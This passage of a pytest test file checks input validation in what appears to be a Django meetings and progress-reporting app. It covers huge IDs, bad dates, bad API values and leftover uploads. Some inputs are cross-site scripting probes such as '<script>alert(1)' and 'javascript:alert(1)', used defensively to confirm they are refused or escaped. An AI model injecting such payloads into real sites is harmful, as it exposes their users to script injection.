    for query in BAD_QUERIES:
        response = client.get(url + query)
        statuses[query] = response.status_code
        if response.status_code == 200 and response.get("Content-Type", "").startswith("text/html"):
            assert "<script>alert(1)" not in response.content.decode()
    assert set(statuses.values()) <= {200, 400, 404}, statuses


@pytest.mark.parametrize(
    "name",
    [
        "meetings:detail",
        "meetings:agreement-detail",
        "meetings:document-download",
        "monitoring:report-detail",
        "monitoring:period-detail",
        "reports:progress-report-pdf",
        "monitoring:evidence-download",
        "members:designation-letter",
        "plans:indicator-detail",
    ],
)
def test_ids_beyond_the_database_range_are_not_found(world, name):
    client = logged_in(world["st"])
    for pk in (2**31, 2**63, 10**30):
        assert client.get(reverse(name, args=[pk])).status_code == 404, pk


# --- The API: the same rules, as 400s with a message --------------------------------------


def test_api_refuses_bad_values_with_a_400_and_a_message(world, fp_hn_api):
    report = world["report"]
    entry = world["entry"]
    url = f"/api/v1/progress-reports/{report.pk}/entries/"
    ok_row = {"activity": entry.activity_id, "progress": 60}
    cases = {
        "justification-5001": [ok_row | {"justification": "J" * 5001}],
        "progress-text": [ok_row | {"progress": "cien"}],
        "progress-huge": [ok_row | {"progress": 2**40}],
        "progress-101": [ok_row | {"progress": 101}],
        "progress-float": [ok_row | {"progress": 50.5}],
        "activity-huge": [ok_row | {"activity": 2**70}],
        "link-javascript": [ok_row | {"links": ["javascript:alert(1)"]}],
        "link-long": [ok_row | {"links": ["https://example.org/" + "a" * 600]}],
        "links-many": [ok_row | {"links": [f"https://example.org/{i}" for i in range(21)]}],
        "goal-status-html": [ok_row | {"goal_status": "<script>"}],
    }
    before = _entries(report)
    for name, entries in cases.items():
        body = {"entries": entries, "version": report.version}
        response = fp_hn_api.post(url, body, format="json")
        assert response.status_code == 400, (name, response.status_code)
        error = response.json()
        assert error.get("detail") and error.get("code"), (name, error)
    broken = fp_hn_api.post(url, "{not json", content_type="application/json")
    assert broken.status_code == 400 and broken.json().get("detail")
    assert _entries(report) == before
    # HTML in a text field is kept literally (JSON is data, not markup).
    response = fp_hn_api.post(
        url,
        {"entries": [ok_row | {"justification": payload("api")}], "version": report.version},
        format="json",
    )
    assert response.status_code == 200
    assert ProgressEntry.objects.get(pk=entry.pk).justification == payload("api")


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/progress-reports/?submitted_after=2026-02-30",
        "/api/v1/progress-reports/?year=99999",
        "/api/v1/progress-reports/?period=" + "9" * 30,
        "/api/v1/meetings/?starts_after=2026-13-01",
        "/api/v1/meetings/?year=-1",
        "/api/v1/agreements/?due_before=0000-00-00",
        "/api/v1/agreements/?meeting=abc",
        "/api/v1/designations/?in_force_on=2025-02-29",
        "/api/v1/poas/?year_from=" + "9" * 30,
        "/api/v1/progress/?year=abc",
        "/api/v1/progress-reports/" + "9" * 30 + "/",
    ],
)
def test_api_filters_with_bad_dates_and_numbers_answer_400_or_404(world, fp_hn_api, url):
    response = fp_hn_api.get(url)
    assert response.status_code in (400, 404), response.status_code
    assert response.json().get("detail")


# --- A real file with a record the rules refuse: no file left in the media ----------------


def test_a_refused_record_leaves_no_uploaded_file_behind(world):
    """The services assign the upload and let save() write it, after every check: a record
    refused by the model's rules (here an over-long title or note, as the API or admin
    could send) must not leave its file in storage."""
    pdf = lambda: SimpleUploadedFile("carta.pdf", PDF, "application/pdf")  # noqa: E731
    refused = {
        "plan instrument": lambda: plan_services.instrument_create(
            user=world["st"], kind="protocol", title="x" * 301, evidence_file=pdf()
        ),
        "meeting document": lambda: meeting_services.document_upload(
            user=world["presidency"], meeting=world["meeting"], title="x" * 251, file=pdf()
        ),
        "accreditation": lambda: meeting_services.attendance_accredit(
            user=world["st"],
            attendance=world["attendance"],
            accreditation_file=pdf(),
            accreditation_note="x" * 301,
        ),
        "agreement follow-up": lambda: meeting_services.agreement_follow_up_add(
            user=world["st"], agreement=world["agreement"], note="", evidence=pdf()
        ),
    }
    for name, call in refused.items():
        with pytest.raises(ValidationError):
            call()
        assert media_files() == [], f"{name}: the file stayed in the media"
    # Control: the same upload with a valid record is stored.
    plan_services.instrument_create(
        user=world["st"], kind="protocol", title="Protocolo regional", evidence_file=pdf()
    )
    assert len(media_files()) == 1
